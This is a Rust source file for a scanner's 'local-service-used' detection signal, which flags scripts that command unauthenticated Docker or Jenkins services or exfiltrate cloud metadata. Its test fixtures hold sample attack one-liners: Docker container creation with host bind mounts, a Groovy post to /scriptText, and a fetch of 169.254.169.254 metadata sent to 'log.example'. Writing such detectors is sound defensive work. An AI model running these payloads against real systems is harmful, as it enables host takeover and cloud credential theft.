//! `local-service-used`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "local-service-used",
    description: "The script sends commands to services on the machine or in its cloud that accept them from anyone.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::LocalService]),
        one(&[Atom::Request, Atom::Socket, Atom::FormTarget, Atom::PostMethod]),
    ],
    within: 200,
    only_if: Some(obeys),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('http://'+h+':2375/containers/create',{method:'POST',body:JSON.stringify({Image:'a'})}).then(r=>r.json())",
            r#"ask('/containers/create',{method:'POST',body:'{"Cmd":["id"],"Image":"a","HostConfig":{"Binds":["/x:/y"]}}'}).then(done)"#,
            "fetch('/scriptText',{method:'POST',body:'script=println+1'}).then(r=>r.text())",
            "fetch('http://169.254.169.254/latest/meta-data/').then(r=>r.text()).then(t=>fetch('https://log.example/m',{method:'POST',body:t}))",
        ],
        without: &[
            "fetch('/api/containers').then(r=>r.json()).then(show)",
            "fetch('/api/tags').then(r=>r.json()).then(show)",
            "fetch('/docker/containers/json').then(r=>r.json()).then(show);$.ajax({url:'/docker/containers/create',method:'POST',data:{Image:image.value}})",
            "code.textContent='curl http://169.254.169.254/latest/meta-data/';fetch('/search?q='+q.value).then(show)",
        ],
    },
};

/// Whether the service is told what to run, or what a cloud tells only its own machines is carried off. Pages of such services ask them for
/// lists.
fn obeys(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 120);
    let written = |at: usize| {
        (at + 1..at + 5).any(|at| near.kind(at) == Some(Kind::Str) && !near.word(at).is_empty())
            && !near.among(at..at + 6).has_word(&["value", "val"])
    };
    let contains = || {
        near.has_text(&["/containers/create"])
            && (near.words(&["Cmd", "Entrypoint", "Binds", "Image"]).any(written)
                // `body: '{"Image":"a","Cmd":["b"]}'`
                || near.has_text(&["\"cmd\":[", "\"cmd\": [", "\"binds\":[", "\"binds\": [", "\"image\":\"", "\"image\": \""]))
    };
    let scripts = || near.has_text(&["/scripttext"]) && near.has_text(&["script="]);
    let carried = || {
        near.has_text(&["latest/meta-data", "metadata.google.internal", "169.254.169.254"])
            && near.has_fact(&[Atom::PageTextForwarded, Atom::PageTextWrapped, Atom::PageDataForwarded])
    };
    contains() || scripts() || carried()
}
